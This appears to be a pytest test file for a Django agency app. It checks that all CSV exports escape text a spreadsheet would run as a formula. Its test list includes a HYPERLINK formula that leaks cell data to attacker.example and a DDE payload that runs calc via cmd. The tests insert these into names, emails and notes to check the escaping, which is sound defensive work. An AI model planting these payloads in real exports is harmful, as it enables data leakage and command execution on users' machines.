"""Every CSV export goes through one writer (network.csvexport), which writes text a spreadsheet
would run as a formula (= + - @, tab, CR, LF first) with a leading apostrophe, and numbers as numbers."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from django.utils import timezone

from agencies import export
from agencies import services as agency_services
from agencies.models import Role
from agencies.roster import services as roster_services
from network import selectors, standards
from network.csvexport import FORMULA_START, csv_cell, csv_writer
from network.models import Network, Vocabulary
from tests.support import ROOT, agency_url, app_modules, log_encounter, make_user, open_activation
from tests.test_reporting import published

THE_WRITER = Path("network/csvexport.py")

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1"]


def csv_writer_calls(source: str) -> list[int]:
    """Lines of `source` that build a csv.writer / csv.DictWriter (however csv was imported)."""
    tree = ast.parse(source)
    modules = {"csv"}
    lines = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            modules |= {alias.asname or alias.name for alias in node.names if alias.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            lines += [node.lineno for alias in node.names if alias.name in ("writer", "DictWriter", "*")]
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id in modules
        ):
            lines.append(node.lineno)
    return lines


def test_the_writer_detector_finds_every_spelling_of_csv_writer():
    assert csv_writer_calls("import csv\nw = csv.writer(f)") == [2]
    assert csv_writer_calls("import csv as c\nw = c.DictWriter(f, [])") == [2]
    assert csv_writer_calls("from csv import writer\n") == [1]
    assert csv_writer_calls("import csv\nrows = csv.reader(f)") == []


def test_no_module_writes_csv_except_through_network_csvexport():
    offenders = {
        path for path in app_modules() if path != THE_WRITER and csv_writer_calls((ROOT / path).read_text("utf-8"))
    }
    assert offenders == set(), "write CSV with network.csvexport.csv_writer"


@pytest.mark.parametrize("value", HOSTILE)
def test_text_a_spreadsheet_would_run_is_written_with_an_apostrophe(value):
    buffer = io.StringIO(newline="")
    csv_writer(buffer).writerow([value, "Phone", "a=b", "x-y"])
    (row,) = csv.reader(io.StringIO(buffer.getvalue()))
    assert row == ["'" + value, "Phone", "a=b", "x-y"]


def test_numbers_the_code_computes_stay_numbers_and_typed_numbers_are_text():
    assert csv_cell(-3) == -3 and csv_cell(12.5) == 12.5 and csv_cell(None) == ""
    assert csv_cell("-3") == "'-3"  # what a user typed is text, however numeric it looks
    buffer = io.StringIO(newline="")
    csv_writer(buffer).writerow([-3, 0, "-3"])
    assert buffer.getvalue() == "-3,0,'-3\r\n"


def cells_of(directory: Path) -> dict[str, list[dict]]:
    files = {}
    for path in sorted(directory.glob("*.csv")):
        with path.open(newline="", encoding="utf-8") as handle:
            files[path.name] = list(csv.DictReader(handle))
    return files


def formula_cells(rows: list[dict]) -> list[str]:
    return [value for row in rows for value in row.values() if value.startswith(FORMULA_START)]


@pytest.mark.django_db
def test_offboarding_export_escapes_hostile_text_in_every_text_column(world, tmp_path):
    """Names, e-mails, languages, activation names and notes: every text a person typed."""
    agency, actor = world.agency_a, world.state_admin
    hostile = make_user("=cmd@test.example", HYPERLINK)
    membership = agency_services.membership_add(actor=actor, user=hostile, agency=agency, role=Role.PEER_SUPPORTER)
    roster_services.profile_update(actor=actor, membership=membership, languages=["@SUM(1+1)"])
    roster_services.certification_add(
        actor=actor, membership=membership, kind="peer-basic", certified_on=timezone.localdate()
    )
    activation = open_activation(world, name="+1+cmd|' /C calc'!A0")
    log_encounter(
        agency,
        author=hostile,
        notes="-2+3",
        activation=activation,
        co_supporters=[world.a[Role.PEER_SUPPORTER]],
        follow_up_due_on=timezone.localdate(),
    )

    files = cells_of(export.agency_export(agency, tmp_path))

    encounter = next(row for row in files["encounters.csv"] if row["notes"] == "'-2+3")
    assert encounter["author_email"] == "'=cmd@test.example"
    assert encounter["activation_name"] == "'+1+cmd|' /C calc'!A0"
    assert any(row["owner_email"] == "'=cmd@test.example" for row in files["follow_ups.csv"])
    member = next(row for row in files["members.csv"] if row["email"] == "'=cmd@test.example")
    assert member["full_name"] == "'" + HYPERLINK and member["languages"] == "'@SUM(1+1)"
    assert any(row["full_name"] == "'" + HYPERLINK for row in files["certifications.csv"])
    for name, rows in files.items():
        assert formula_cells(rows) == [], name


@pytest.mark.django_db
def test_dashboard_csvs_escape_labels_the_state_admin_typed(client, world):
    """Breakdown labels come from the documentation standard's vocabulary, region names from the
    state admin's form: both reach the chief's and the network's CSV."""
    network = Network.objects.get(pk=world.network_id)
    current = selectors.standard_current(network)
    terms = {v: [(t.code, t.label, t.concept) for t in ts] for v, ts in selectors.terms_by_vocabulary(current).items()}
    terms[Vocabulary.CONTACT_MODE] = [(code, HYPERLINK if code == "phone" else label, concept)
                                      for code, label, concept in terms[Vocabulary.CONTACT_MODE]]  # fmt: skip
    standards.standard_publish(actor=world.state_admin, network=network, terms=terms)
    published(world)  # leadership CSVs show published periods only, with the labels of their publication

    for user, url in ((world.a[Role.CHIEF], agency_url(world.agency_a, "agency_dashboard_csv")),
                      (world.state_admin, "/network/dashboard/export.csv")):  # fmt: skip
        client.force_login(user)
        rows = list(csv.reader(io.StringIO(client.get(url).getvalue().decode())))
        assert "'" + HYPERLINK in {cell for row in rows for cell in row}, url
        assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_START)], url
